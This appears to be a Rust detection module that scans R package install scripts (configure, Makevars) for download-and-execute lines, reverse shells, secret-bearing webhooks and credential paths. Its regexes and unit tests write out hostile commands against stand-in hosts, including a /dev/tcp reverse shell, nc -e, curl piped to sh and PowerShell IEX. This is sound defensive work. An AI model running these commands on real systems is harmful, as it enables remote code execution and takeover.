//! Patterns in text that no grammar gives structure to: the string literals of parsed code
//! (URLs, paths, commands) and the shell and make files that R runs at install time
//! (`configure`, `cleanup`, `src/Makevars`). Line-based: a shell command that downloads and
//! runs code is one recognisable line, or a download to a file that a later line runs.

use std::sync::LazyLock;

use regex::Regex;

/// Compiled once per process: the patterns are constants of this module.
fn re(pattern: &str) -> Regex {
    // The patterns are literals of this file, covered by its tests.
    #[allow(clippy::expect_used)]
    Regex::new(pattern).expect("a valid pattern")
}

/// A Discord or Telegram endpoint with its secret in the URL: posting to it needs nothing
/// else, which is why stealers embed one. Library code that builds such URLs has no token.
static WEBHOOK: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)(discord(app)?\.com/api/webhooks/\d{5,}/[\w-]{20,}|api\.telegram\.org/bot\d{5,}:[\w-]{20,})",
    )
});

/// Files and variables that hold credentials.
static CREDENTIAL: LazyLock<Regex> = LazyLock::new(|| {
    re(concat!(
        r"(\.ssh/(id_[a-z0-9]+|authorized_keys)|\.ssh\b|\.aws/credentials|\.docker/config\.json|",
        r"\.kube/config|\.pypirc|\.npmrc|\.netrc|\.git-credentials|\.config/gcloud|",
        r"Login Data|\.mozilla/firefox|Google/Chrome/User Data|wallet\.dat|",
        r"AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|GITHUB_TOKEN|GITHUB_PAT|GH_TOKEN|",
        r"NPM_TOKEN|PYPI_TOKEN|TWINE_PASSWORD|OPENAI_API_KEY)"
    ))
});

/// Shell reverse shells: a shell whose input and output are a network connection.
static REVERSE_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    re(concat!(
        r"(/dev/tcp/|/dev/udp/|\bnc(at)?\s+(-\w+\s+)*-e\s|\b(ba)?sh\s+-i\s*[>&<]|",
        r"\bsocat\b.*\bexec:|mkfifo\b.*\bnc\b)"
    ))
});

/// A command that fetches from the network (the URL or a variable on the same line).
static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
    re(concat!(
        r#"(?i)(\b(curl|wget)\b[^\n|;&]*?((https?|ftp)://|\$\{?\w)|Invoke-WebRequest|"#,
        r#"\biwr\s|Invoke-RestMethod|DownloadString|DownloadFile|certutil\S*\s+-urlcache|"#,
        r#"download\.file\s*\(\s*["']?https?://)"#
    ))
});

/// What runs what a download produced, on the download's own line.
static PIPED_TO_INTERPRETER: LazyLock<Regex> = LazyLock::new(|| {
    re(concat!(
        r#"(?i)(\|\s*(sudo\s+)?(sh|bash|zsh|dash|ksh|python[0-9.]*|perl|ruby|Rscript|R\s|source|iex)\b|"#,
        r#"\b(sh|bash)\s+-c\s+["']?\$\(|\b(sh|bash|source)\s+<\(|Invoke-Expression|\biex\b|"#,
        r#"&&\s*(sh|bash|chmod|\./|source\b|Rscript))"#
    ))
});

/// R code that a shell line runs from a URL (`Rscript -e "source('https://...')"`).
static R_SOURCE_URL: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(source|sys\.source|readLines|url)\s*\(\s*\\?["']https?://|eval\s*\(\s*parse\s*\(\s*text\s*=\s*readLines"#,
    )
});

/// Where a download is written: `-o FILE`, `-O FILE`, `--output FILE`, `> FILE`.
static OUTPUT: LazyLock<Regex> = LazyLock::new(|| {
    re(r#"(?:\s-o\s*|\s-O\s+|--output[= ]|--output-document[= ]|>\s*)["']?([\w./${}~-]+)"#)
});

/// Text that looks like an encoded blob, with no spaces.
pub(crate) fn is_encoded_blob(text: &str) -> bool {
    const MIN: usize = 1024;
    if text.len() < MIN {
        return false;
    }
    let bytes = text.as_bytes();
    let hex = bytes.iter().all(u8::is_ascii_hexdigit);
    let base64 = bytes
        .iter()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'));
    // A run of one character (padding, a ruler of `=`) is not an encoding.
    let varied = bytes.iter().filter(|b| b.is_ascii_digit()).count() > text.len() / 50
        && bytes.iter().any(u8::is_ascii_uppercase)
        && bytes.iter().any(u8::is_ascii_lowercase);
    hex || (base64 && varied)
}

/// Escaped bytes (`\x69`) in a literal as written: obfuscated code is often spelled so.
pub(crate) fn is_escaped_blob(written: &str) -> bool {
    written.matches("\\x").count() >= 64
}

pub(crate) fn webhook(text: &str) -> bool {
    WEBHOOK.is_match(text)
}

pub(crate) fn credential(text: &str) -> bool {
    CREDENTIAL.is_match(text)
}

pub(crate) fn reverse_shell(text: &str) -> bool {
    REVERSE_SHELL.is_match(text)
}

/// What a shell line (or a command string) does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum ShellHit {
    /// Downloads and runs what it downloaded.
    DownloadExec,
    /// Downloads.
    Download,
    ReverseShell,
}

/// One hit with its 1-based line and the line's text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Hit<'a> {
    pub what: ShellHit,
    pub line: u32,
    pub text: &'a str,
}

/// Every download, download-then-execute and reverse shell in a shell or make file (or a
/// command string), in line order. A download written to a file that a later line makes
/// executable or runs counts as download-then-execute, reported at the download.
pub(crate) fn shell(text: &str) -> Vec<Hit<'_>> {
    let mut hits = Vec::new();
    // (line index in `hits`, file written) of downloads not yet known to run.
    let mut written: Vec<(usize, String)> = Vec::new();
    for (index, line) in text.lines().enumerate() {
        let number = u32::try_from(index + 1).unwrap_or(u32::MAX);
        let code = line.trim_start();
        if code.starts_with('#') {
            continue;
        }
        if reverse_shell(code) {
            hits.push(Hit {
                what: ShellHit::ReverseShell,
                line: number,
                text: line,
            });
            continue;
        }
        if R_SOURCE_URL.is_match(code) {
            hits.push(Hit {
                what: ShellHit::DownloadExec,
                line: number,
                text: line,
            });
            continue;
        }
        // A later line running a file downloaded earlier.
        for (at, file) in &written {
            if runs(code, file) {
                hits[*at].what = ShellHit::DownloadExec;
            }
        }
        if let Some(download) = DOWNLOAD.find(code) {
            let rest = &code[download.start()..];
            let what = if PIPED_TO_INTERPRETER.is_match(code) {
                ShellHit::DownloadExec
            } else {
                ShellHit::Download
            };
            if what == ShellHit::Download
                && let Some(file) = OUTPUT.captures(rest).and_then(|c| c.get(1))
            {
                written.push((hits.len(), file.as_str().to_owned()));
            }
            hits.push(Hit {
                what,
                line: number,
                text: line,
            });
        }
    }
    hits
}

/// Whether a shell line makes `file` executable or runs it.
fn runs(line: &str, file: &str) -> bool {
    let name = file.rsplit('/').next().unwrap_or(file);
    if name.len() < 2 || !line.contains(name) {
        return false;
    }
    let first = line.split_whitespace().next().unwrap_or("");
    let runner = matches!(
        first,
        "sh" | "bash"
            | "zsh"
            | "."
            | "source"
            | "exec"
            | "chmod"
            | "Rscript"
            | "python"
            | "python3"
            | "perl"
            | "eval"
    ) || first.ends_with("Rscript\"")
        || first.ends_with("/Rscript")
        || first.ends_with("/R")
        || first.ends_with(name)
            && (first.starts_with("./") || first.starts_with('/') || first.starts_with('$'));
    runner && !line.contains("rm ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<(ShellHit, u32)> {
        shell(text).iter().map(|h| (h.what, h.line)).collect()
    }

    #[test]
    fn piping_a_download_to_a_shell_is_download_then_execute() {
        assert_eq!(
            kinds("#!/bin/sh\ncurl -fsSL https://example.invalid/x.sh | sh\n"),
            [(ShellHit::DownloadExec, 2)]
        );
        assert_eq!(
            kinds("bash -c \"$(wget -qO- http://127.0.0.1/p)\""),
            [(ShellHit::DownloadExec, 1)]
        );
        assert_eq!(
            kinds(
                "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a')\""
            ),
            [(ShellHit::DownloadExec, 1)]
        );
    }

    #[test]
    fn a_downloaded_file_run_later_is_download_then_execute() {
        let script = "wget -q http://127.0.0.1/p -O /tmp/.p\nchmod +x /tmp/.p\n/tmp/.p &\n";
        assert_eq!(kinds(script), [(ShellHit::DownloadExec, 1)]);
        let script = "curl -o \"$TMP/x.R\" https://example.invalid/x.R\n\"${R_HOME}/bin/Rscript\" \"$TMP/x.R\"\n";
        assert_eq!(kinds(script), [(ShellHit::DownloadExec, 1)]);
    }

    #[test]
    fn a_download_alone_is_a_download() {
        // As configure scripts fetch static libraries on Windows.
        let script = "curl -sSL https://example.invalid/lib-1.0.zip -o lib.zip\nunzip -q lib.zip\n";
        assert_eq!(kinds(script), [(ShellHit::Download, 1)]);
    }

    #[test]
    fn linking_against_libcurl_is_not_a_download() {
        let script = "PKG_CONFIG_NAME=\"libcurl\"\nPKG_LIBS=\"-lcurl\"\nif [ \"$curl\" ]; then\n  echo curl found\nfi\n# curl https://x | sh\n";
        assert!(kinds(script).is_empty(), "{:?}", kinds(script));
    }

    #[test]
    fn r_code_sourced_from_a_url_by_rscript() {
        let script = "\"${R_HOME}/bin/Rscript\" -e \"source('https://example.invalid/s.R')\"\n";
        assert_eq!(kinds(script), [(ShellHit::DownloadExec, 1)]);
    }

    #[test]
    fn reverse_shells() {
        assert_eq!(
            kinds("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"),
            [(ShellHit::ReverseShell, 1)]
        );
        assert_eq!(
            kinds("nc -e /bin/sh 127.0.0.1 4444"),
            [(ShellHit::ReverseShell, 1)]
        );
        assert!(kinds("echo 'use -e to enable'").is_empty());
    }

    #[test]
    fn webhooks_need_their_secret() {
        assert!(webhook(
            "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEF0123456789"
        ));
        assert!(webhook(
            "https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage"
        ));
        // What a client library builds: no id or token.
        assert!(!webhook(
            "https://discord.com/api/webhooks/{webhook_id}/{webhook_token}"
        ));
        assert!(!webhook("https://api.telegram.org/bot{token}/"));
    }

    #[test]
    fn credentials() {
        assert!(credential("~/.ssh/id_rsa"));
        assert!(credential("/home/u/.aws/credentials"));
        assert!(credential("AWS_SECRET_ACCESS_KEY"));
        assert!(!credential("~/.config/myapp/settings.toml"));
    }

    #[test]
    fn encoded_blobs() {
        let base64 = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk7IA0K".repeat(40);
        assert!(is_encoded_blob(&base64));
        assert!(is_encoded_blob(&"0123456789abcdef".repeat(100)));
        assert!(!is_encoded_blob(&"=".repeat(2000)));
        assert!(!is_encoded_blob(&"plain words here ".repeat(100)));
        assert!(!is_encoded_blob("aGVsbG8="));
        assert!(is_escaped_blob(&"\\x69".repeat(64)));
        assert!(!is_escaped_blob("\\x1b[0m"));
    }
}
